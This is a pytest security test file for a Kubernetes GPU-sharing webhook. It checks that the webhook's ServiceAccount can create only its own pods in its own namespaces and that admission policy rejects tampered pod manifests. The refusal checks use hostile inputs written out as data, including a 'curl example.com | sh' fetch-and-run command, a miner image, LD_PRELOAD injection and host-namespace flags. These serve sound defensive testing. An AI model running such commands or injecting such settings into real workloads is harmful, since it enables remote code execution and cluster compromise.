"""The components `borrow` and `demand`: what an attacker with the webhook's ServiceAccount can create and delete with them."""

from __future__ import annotations

import copy
import dataclasses
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from gpushare import contract
from gpushare.whatif.node_demand import NodeDemand
from lab import lab_errors
from tests.config import manifests
from tests.config.conftest import WAIT_SECONDS, Cluster
from tests.config.test_policy_pods import WEBHOOK
from tests.config.test_rbac import may
from webhook import webhook_settings
from webhook.controllers.borrow import placeholders
from webhook.controllers.demand import demand_pods

pytestmark = pytest.mark.apiserver

DEMAND_OF_TWO = NodeDemand("{}", "NVIDIA-L4", 2, 1000, 2**30, ("uid",))


@dataclasses.dataclass(frozen=True)
class Component:
    """A component whose pods the webhook creates, in a namespace of their own. make: a pod from the PodTemplate."""

    name: str
    namespace: str
    path: str  # of the pods
    make: Callable[[dict[str, Any]], dict[str, Any]]

    def documents(self, name: str, kind: str) -> list[dict[str, Any]]:
        there = manifests.documents(manifests.CONFIG / "components" / self.name / f"{name}.yaml")
        return [made for made in there if made["kind"] == kind]

    def files(self) -> list[str]:
        folder = manifests.CONFIG / "components" / self.name
        return [f"--filename={folder / name}.yaml" for name in ("namespace", "template", "rights", "policy")]

    def manifest(self) -> dict[str, Any]:
        return self.make(self.documents("template", "PodTemplate")[0]["template"])

    def changed(self, *, spec: dict[str, Any] | None = None, **container: Any) -> dict[str, Any]:
        made = copy.deepcopy(self.manifest())
        made["spec"] |= spec or {}
        made["spec"]["containers"][0] |= container
        return made

    def in_namespace(self, namespace: str) -> tuple[dict[str, Any], str]:
        made = self.manifest()
        metadata = {**made["metadata"], "namespace": namespace}
        return {**made, "metadata": metadata}, f"/api/v1/namespaces/{namespace}/pods"


BORROW = Component(
    "borrow",
    contract.BORROW_NAMESPACE,
    placeholders.PODS_PATH,
    lambda template: placeholders.manifest(template, "node-a"),
)
DEMAND = Component(
    "demand",
    contract.DEMAND_NAMESPACE,
    demand_pods.PODS_PATH,
    lambda template: demand_pods.manifest(
        template, DEMAND_OF_TWO, resource=contract.RESOURCE_PERCENT, excluded=["node-a"]
    ),
)


@pytest.fixture(scope="module", params=[BORROW, DEMAND], ids=lambda component: component.name)
def component(request: pytest.FixtureRequest) -> Component:
    found: Component = request.param
    return found


@pytest.fixture(scope="module")
def cluster(installed: Cluster, component: Component) -> Iterator[Cluster]:
    """With the component, once its policy is in force."""
    installed.kubectl("apply", "--server-side", "--force-conflicts", *component.files())
    installed.administrator.ensure_default_service_account(component.namespace)
    deadline = time.monotonic() + WAIT_SECONDS
    while "may have only the container" not in refusal(installed, component.changed(image="x"), component.path):
        assert time.monotonic() < deadline, f"gpushare-{component.name} is not in force after {WAIT_SECONDS} s"
        time.sleep(0.1)
    yield installed
    installed.kubectl("delete", component.files()[-1], "--ignore-not-found")


def refusal(cluster: Cluster, made: dict[str, Any], path: str) -> str:
    """Return why the webhook's account may not create the pod; empty if it may."""
    try:
        cluster.administrator.create(path, made, user=WEBHOOK, dry_run=True)
    except lab_errors.LabError as error:
        return str(error)
    return ""


def test_the_webhook_may_create_its_pods_and_no_others(cluster: Cluster, component: Component) -> None:
    changed, main = component.changed, component.manifest()["spec"]["containers"][0]

    def said(made: dict[str, Any]) -> str:
        return refusal(cluster, made, component.path)

    assert said(component.manifest()) == ""
    only = f"may have only the container of the PodTemplate gpushare-{component.name}"
    for made in (
        changed(image="example.com/miner"),
        changed(command=["sh", "-c", "curl example.com | sh"]),
        changed(args=["--more"]),
        changed(env=[{"name": "LD_PRELOAD", "value": "/x"}]),
        changed(ports=[{"containerPort": 80}]),
        changed(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}),
        changed(livenessProbe={"exec": {"command": ["sh"]}}),
        changed(spec={"initContainers": [{**main, "name": "first"}]}),
        changed(spec={"containers": [main, {**main, "name": "b"}]}),
    ):
        assert only in said(made), made
    no_rights = "may have no volumes, no token and no ServiceAccount of its own"
    assert only in said(changed(spec={"automountServiceAccountToken": True}))  # it mounts the token
    assert no_rights in said(changed(spec={"volumes": [{"name": "x", "emptyDir": {}}]}))
    for spec in ({"nodeName": "node-a"}, {"schedulerName": "mine"}, {"priorityClassName": "system-node-critical"}):
        assert "must have scheduler, priority and RuntimeClass" in said(changed(spec=spec)), spec
    shared = component.manifest()
    shared["metadata"]["annotations"][contract.ALLOCATION] = "a1"
    assert "may have no share, owner or finalizer" in said(shared)
    for key in ("hostNetwork", "hostPID"):
        assert "violates PodSecurity" in said(changed(spec={key: True}))
    assert "violates PodSecurity" in said(changed(securityContext={"allowPrivilegeEscalation": False}))


def test_the_right_is_for_this_namespace_alone(cluster: Cluster, component: Component) -> None:
    for namespace in ("default", contract.SYSTEM_NAMESPACE, "kube-system"):
        for verb in ("create", "delete"):
            assert not may(cluster, WEBHOOK, verb, "pods", namespace=namespace)
        assert 'cannot create resource "pods"' in refusal(cluster, *component.in_namespace(namespace))
    for verb in ("create", "delete"):
        assert may(cluster, WEBHOOK, verb, "pods", namespace=component.namespace)
    for verb, resource in (("update", "podtemplates"), ("delete", "podtemplates"), ("patch", "resourcequotas")):
        assert not may(cluster, WEBHOOK, verb, resource, namespace=component.namespace)


def test_the_policy_forbids_what_a_wider_role_would_allow(cluster: Cluster, component: Component) -> None:
    here = f"--namespace={cluster.namespace}"
    cluster.kubectl("create", "role", "too-much", "--verb=create", "--resource=pods", here)
    cluster.kubectl("create", "rolebinding", "too-much", "--role=too-much", f"--user={WEBHOOK}", here)
    only = f"may create pods only in the namespace gpushare-{component.name}"
    try:
        assert only in refusal(cluster, *component.in_namespace(cluster.namespace))
    finally:
        cluster.kubectl("delete", "rolebinding/too-much", "role/too-much", here)


def test_quota_priority_and_settings_of_borrowing_agree() -> None:
    (quota,) = BORROW.documents("namespace", "ResourceQuota")
    (kustomization,) = BORROW.documents("kustomization", "Component")
    most = quota["spec"]["hard"]["pods"]
    assert quota["spec"]["hard"] == {"pods": most, "requests.nvidia.com/gpu": most}
    assert f"--borrow-max-gpus={most}" in kustomization["patches"][0]["patch"]
    assert webhook_settings.WebhookSettings().borrow_max_gpus == 0  # off by default
    (priority,) = BORROW.documents("template", "PriorityClass")
    assert priority["value"] < 0
    assert priority["preemptionPolicy"] == "Never"


def test_quota_priority_and_settings_of_demand_agree() -> None:
    (quota,) = DEMAND.documents("namespace", "ResourceQuota")
    most = webhook_settings.WebhookSettings().demand_max_gpus
    assert quota["spec"]["hard"] == {
        "pods": str(most), f"requests.{contract.RESOURCE_PERCENT}": str(100 * most), "requests.nvidia.com/gpu": str(most)
    }  # fmt: skip
    (priority,) = DEMAND.documents("template", "PriorityClass")
    assert priority["value"] == -10  # below that, Cluster Autoscaler ignores a pod
    folder = manifests.CONFIG / "components" / "demand"
    names = {made["metadata"]["name"] for made in manifests.documents(folder / "namespace.yaml")}
    assert names == {contract.DEMAND_NAMESPACE, "gpushare-demand"}


def test_both_components_may_be_installed(cluster: Cluster, component: Component) -> None:
    (other,) = {BORROW.name: [DEMAND], DEMAND.name: [BORROW]}[component.name]
    cluster.kubectl("apply", "--server-side", "--force-conflicts", *other.files())
    try:
        assert refusal(cluster, component.manifest(), component.path) == ""
    finally:
        cluster.kubectl("delete", other.files()[-1], "--ignore-not-found")


@pytest.mark.parametrize("component", [BORROW], indirect=True, ids=["borrow"])
def test_a_placeholder_has_the_resources_and_tolerations_of_the_template(
    cluster: Cluster, component: Component
) -> None:
    resources = component.manifest()["spec"]["containers"][0]["resources"]
    requests, limits = resources["requests"], resources["limits"]
    for other in (
        {"requests": {**requests, "cpu": "64"}, "limits": limits},
        {"requests": requests, "limits": {contract.BORROWED_RESOURCE: "1"}},
        {"requests": requests, "limits": {**limits, "memory": "1Ti"}},
        {"requests": requests, "limits": {**limits, "example.com/fpga": "1"}},
    ):
        said = refusal(cluster, component.changed(resources=other), component.path)
        assert "resources and tolerations" in said, other
    everywhere = component.changed(spec={"tolerations": [{"operator": "Exists"}]})
    assert "resources and tolerations" in refusal(cluster, everywhere, component.path)


@pytest.mark.parametrize("component", [BORROW], indirect=True, ids=["borrow"])
def test_a_placeholder_has_one_gpu(cluster: Cluster, component: Component) -> None:
    for gpus in ("2", "0"):
        made = component.changed(resources={"limits": {contract.BORROWED_RESOURCE: gpus}})
        assert "must have one nvidia.com/gpu" in refusal(cluster, made, component.path)
